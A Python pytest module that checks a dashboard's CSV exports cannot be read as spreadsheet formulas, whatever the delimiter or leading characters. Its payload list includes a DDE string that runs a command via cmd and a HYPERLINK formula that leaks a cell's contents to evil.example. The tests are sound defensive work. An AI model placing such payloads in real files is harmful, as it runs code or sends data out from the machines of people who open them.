"""Files that a spreadsheet opens: no cell of any of them is a formula, wherever the spreadsheet divides a line.

What is tried: what begins with = + - @, in wide forms too, after spaces, tabs, quotes and line ends, and after the
semicolons and tabs at which a spreadsheet of another language divides, in every column that people can fill. Each route
that ends in .csv is read as three spreadsheets would read it. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import time

import psycopg
import pytest
from flask import Flask

from dashboard.config import libpq_url
from dashboard.database import Database
from dashboard.staff.permissions import Role
from dashboard.web.export import FORMULA, cell
from tests.security.conftest import signed_in
from tests.security.hostile import poison
from tests.security.world import World

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    " =1",
    "\t=1",
    "\r=1",
    "\n=1",
    "\u00a0=1",
    '"=1"',
    '""=1',
    "a;=1",
    "a; =1",
    'a;"=1',
    'a";"=1',
    "a\t=1",
    "a\n=1",
    "a\r\n@SUM(A1)",
    "a\n\n;\t-1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1;"x")',
)
NUMBERS = {"percent_before", "percent_after", "points", "progress", "row_version", "version", "weight"}
NUMBERS |= {"done", "skipped", "in_progress", "todo", "in_progress_idle_14_days"}


def is_formula(value: str) -> bool:
    return value.strip().lstrip('" \t').startswith(tuple(FORMULA)) or value.startswith(("\t", "\r"))


@pytest.fixture
def files(app: Flask, database: Database, world: World, database_url: str) -> dict[str, str]:
    """Each CSV file that there is, of an installation in which all that people say is a formula."""
    with psycopg.connect(libpq_url(database_url)) as connection:
        poison(connection, FORMULAS)
    client = signed_in(app, database, Role.ADMIN)
    found = {}
    for _, path in world.addresses(app, "GET"):
        if path.endswith(".csv"):
            answer = client.get(path)
            if answer.status_code == 200:
                assert answer.mimetype == "text/csv"
                found[path] = answer.text
    return found


def test_no_cell_is_a_formula(files: dict[str, str]) -> None:
    assert {path.rpartition("/")[2] for path in files} == {"people.csv", "activity.csv", "overview.csv"}
    assert len(files) > 4
    for path, source in files.items():
        lines = list(csv.reader(io.StringIO(source, newline=""), strict=True))
        header = lines[0]
        assert len(lines) > 1, path
        for line in lines[1:]:
            assert len(line) == len(header), path
            for name, value in zip(header, line, strict=True):
                number = name in NUMBERS and value.lstrip("-").isdigit()
                assert number or not is_formula(value), (path, name, value)


@pytest.mark.parametrize("divider", [";", "\t"])
def test_no_cell_is_one_where_a_line_is_divided_otherwise(files: dict[str, str], divider: str) -> None:
    for path, source in files.items():
        # as a spreadsheet does that knows nothing of quotes in the middle of a cell
        for line in csv.reader(io.StringIO(source, newline=""), delimiter=divider):
            for value in line:
                assert not is_formula(value), (path, value)
        for line in source.splitlines():
            for value in line.split(divider):
                assert not is_formula(value), (path, value)


@pytest.mark.parametrize("value", FORMULAS)
def test_what_is_said_is_all_there(value: str) -> None:
    told = cell(value)
    assert isinstance(told, str)
    assert told != value
    assert told.replace("'", "") == value.replace("'", "")


@pytest.mark.parametrize(
    "value", ["", "Anna", "a=1", "a;b", "a\nb", "1+1", "(-1)", "Ann-Marie", "a@example.com", -5, 0, 3]
)
def test_everything_else_is_as_it_was(value: str | int) -> None:
    assert cell(value) == value


def test_no_text_takes_long() -> None:
    for value in ("\n" * 5_000 + "a", " ;" * 5_000, '"' * 10_000, "=" * 10_000, "\t;\r\n" * 2_500):
        begun = time.thread_time()
        cell(value)
        assert time.thread_time() - begun < 0.5
